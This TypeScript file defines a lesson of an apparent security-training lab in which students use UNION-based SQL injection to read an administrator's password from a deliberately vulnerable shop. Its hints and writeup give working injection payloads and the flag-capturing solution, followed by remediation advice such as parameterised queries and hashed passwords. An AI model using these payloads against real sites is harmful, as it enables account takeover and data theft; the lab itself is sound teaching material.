import type { LabInfo } from './lab-info';

const lab: LabInfo = {
  id: 'web-sqli-union',
  moduleId: 'web-application',
  lessonNumber: 5,
  title: "Read the administrator's password with UNION",
  difficulty: 'Intermediate',
  objective:
    "The shop's category filter builds its SQL from the category in the address, and the staff accounts sit in the same database. Use UNION-based injection to read the administrator's password, then sign in as administrator; the admin dashboard then shows your flag.",
  hints: [
    'Open a category and edit the address: what happens to the page when the category ends with a single quote?',
    "Count the columns with ORDER BY 1--, ORDER BY 2--, … after a closing quote; the first error tells you how many a UNION SELECT needs. SQLite keeps every table's CREATE statement in sqlite_master.",
    "Make the original query match nothing, then append your own rows: category=x' UNION SELECT username, password FROM users--",
  ],
  writeup: `Open **Gifts**: the address is \`filter?category=Gifts\` and the page shows a two-column table. Behind it is

\`\`\`sql
SELECT name, price FROM products WHERE category = '<category>' AND released = 1
\`\`\`

1. **Confirm it.** \`category=Gifts'\` gives a database error; \`category=Gifts''\` gives no error, just no products. You are inside a string.
2. **Count columns.** \`Gifts' ORDER BY 2--\` works, \`Gifts' ORDER BY 3--\` fails with "ORDER BY term out of range": two columns.
3. **Find them on the page.** \`x' UNION SELECT 'a','b'--\` shows one row, \`a\` under Product and \`b\` under Price.
4. **Read the schema.** \`x' UNION SELECT name, sql FROM sqlite_master--\` lists the tables, among them
   \`users (id, username, password, email)\`.
5. **Extract.** \`x' UNION SELECT username, password FROM users--\` lists every account; copy the
   administrator's 12-character password (it is different each time you start the lab).
6. Open **Staff sign-in**, sign in as \`administrator\` with that password, and the admin dashboard shows your flag.

On a phone, type the payload straight into the address bar after \`category=\`; the browser encodes
spaces and quotes for you.

**Why it works:** your quote ends the string, so \`UNION SELECT\` is parsed as SQL. The database appends
your rows to the shop's, and the page prints whatever rows come back. The two SELECTs need the same
number of columns, which is why you counted first. \`--\` comments out the rest of the original query.

**The fix** is a parameterised query (\`WHERE category = ?\`), or an allowlist, because the categories are a
fixed set. Also: show a generic error page instead of the database's message, give the shop's database
account no access to the users table, and store passwords as slow salted hashes (Argon2id).`,
};

export default lab;
